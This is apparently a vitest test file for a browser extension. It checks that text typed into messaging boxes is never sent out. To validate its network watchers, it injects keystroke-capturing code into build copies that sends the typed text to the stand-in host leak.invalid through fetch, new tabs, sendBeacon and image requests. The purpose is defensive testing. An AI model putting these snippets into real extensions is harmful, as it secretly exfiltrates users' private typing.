/**
 * What is typed leaves the machine in no way of ours: on every surface and page of ours, in both browsers (a few of them here, all of them in
 * `npm run test:long`). Leaking builds are put through the same watchers, to show that they would see it.
 */
import { appendFile, cp, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { builtExtension } from "../setup/builds.ts";
import { temporaryFolder } from "../setup/profile.ts";
import { LONG } from "../setup/tier.ts";
import { ALLOWED } from "./asked-boxes.ts";
import { ALL, MESSAGING } from "./all-boxes.ts";
import { FACEBOOK, LINKEDIN_C, X_INLINE, type Box } from "./boxes.ts";
import { MARKER, OUR_PAGES, tourOf, tourOfOurs, withDraft } from "./tour.ts";
import { watchChromium, watchFirefox, type Seen, type Watched } from "./watchers.ts";

type Browser = "chromium" | "firefox";

const copies: { remove(): Promise<void> }[] = [];
afterAll(() => Promise.all(copies.map((copy) => copy.remove())));

interface Manifest {
  readonly background: { readonly scripts?: readonly string[]; readonly service_worker?: string };
  readonly content_scripts: readonly { readonly js: readonly string[]; readonly matches: readonly string[] }[];
  readonly host_permissions: readonly string[];
}

/** A copy of the build that ships, with something changed in it. */
async function copyOf(browser: Browser, change: (folder: string, manifest: Manifest) => Promise<void>): Promise<string> {
  const copy = await temporaryFolder("changed");
  copies.push(copy);
  await cp(builtExtension(browser), copy.path, { recursive: true });
  await change(copy.path, JSON.parse(await readFile(join(copy.path, "manifest.json"), "utf8")) as Manifest);
  return copy.path;
}

/** Firefox's copy begins with the permissions that its writer would give in the popup, which other tests do. */
const allowed = (): Promise<string> => copyOf("firefox", (folder, manifest) => writeFile(join(folder, "manifest.json"), JSON.stringify({
  ...manifest, host_permissions: [...manifest.host_permissions, ...ALLOWED],
  content_scripts: manifest.content_scripts.map((script) => ({ ...script, matches: [...script.matches, ...ALLOWED] })),
})));

/** The content script's own leaks see the text as it is typed; the background's is told of it. */
const IN_PAGE = (leak: string) => `\n;addEventListener("input", (e) => { const text = e.composedPath()[0].textContent ?? ""; if (text.includes("${MARKER}")) { ${leak}; } }, true);`;
const API = "(globalThis.browser ?? globalThis.chrome)";
const LEAKS: readonly (readonly [name: string, browsers: readonly Browser[], leak: string, isStrange: boolean])[] = [
  ["fetch to a strange host", ["chromium"], `fetch("https://leak.invalid/?q=" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})`, true],
  ["a tab at a strange host", ["firefox"], `${API}.runtime.sendMessage({ leak: text })`, true],
  ["a beacon to the page's own host", ["chromium", "firefox"], `navigator.sendBeacon(location.origin + "/beacon", text)`, false],
  ["an image address", ["chromium", "firefox"], `new Image().src = location.origin + "/i.png?q=" + encodeURIComponent(text)`, false],
];
const IN_BACKGROUND = `\n;${API}.runtime.onMessage.addListener((m) => { if (m?.leak) void ${API}.tabs.create({ url: "https://leak.invalid/?q=" + encodeURIComponent(m.leak) }); });`;

const leaking = (browser: Browser, leak: string): Promise<string> => copyOf(browser, async (folder, { background, content_scripts: [script] }) => {
  await appendFile(join(folder, script?.js[0] ?? ""), IN_PAGE(leak));
  await appendFile(join(folder, background.scripts?.[0] ?? background.service_worker ?? ""), IN_BACKGROUND);
});

/** Messages are read where that is switched on, and so they are here. */
const READS = { settings: { messagesOn: MESSAGING } };
const inFirefox = (box: Box): boolean => box.frame === undefined;
const boxesFor = (browser: Browser): readonly Box[] => (LONG ? ALL : browser === "chromium" ? [X_INLINE, FACEBOOK, LINKEDIN_C] : [X_INLINE, FACEBOOK]).filter((box) => browser === "chromium" || inFirefox(box));

const whole = (browser: Browser) => async ({ open, ours, keep }: Watched): Promise<void> => {
  await keep(READS);
  for (const box of boxesFor(browser)) await tourOf(() => open(box), box, !LONG);
  await withDraft(() => open(X_INLINE), X_INLINE, async () => {
    for (const name of OUR_PAGES) {
      const page = await ours(name);
      await tourOfOurs(page);
      await page.close();
    }
  });
};
const short = async ({ open }: Watched): Promise<void> => withDraft(() => open(X_INLINE), X_INLINE, () => Promise.resolve());

const watch: Readonly<Record<Browser, (dir: string, tour: (watched: Watched) => Promise<void>, allowed?: boolean) => Promise<Seen>>> = { chromium: watchChromium, firefox: watchFirefox };
const sum = (of: Readonly<Record<string, number>>): number => Object.values(of).reduce((total, count) => total + count, 0);

describe.each(["chromium", "firefox"] as const)("%s", (browser) => {
  test("the build that ships: no strange host, and the text in no request", async () => {
    const folder = LONG && browser === "firefox" ? await allowed() : builtExtension(browser);
    const { counts, strange, marked } = await watch[browser](folder, whole(browser), LONG);
    // The proxy sees what goes elsewhere: nothing, or an errand of the browser's.
    for (const [watcher, count] of Object.entries(counts)) if (watcher !== "proxy") expect(count, watcher).toBeGreaterThan(3);
    expect(Object.values(strange).flat()).toEqual([]);
    expect(sum(marked)).toBe(0);
  }, LONG ? 3_600_000 : 300_000);

  test.each(LEAKS.filter(([, browsers]) => browsers.includes(browser)))("the same watchers see %s", async (_name, _browsers, leak, isStrange) => {
    const { strange, marked } = await watch[browser](await leaking(browser, leak), short);
    expect(sum(marked)).toBeGreaterThan(0);
    // A strange host is asked for by way of the proxy, and stands in the browser's own log.
    if (isStrange) for (const watcher of ["proxy", "log"]) expect(strange[watcher], watcher).toContain("leak.invalid");
  }, 180_000);
});
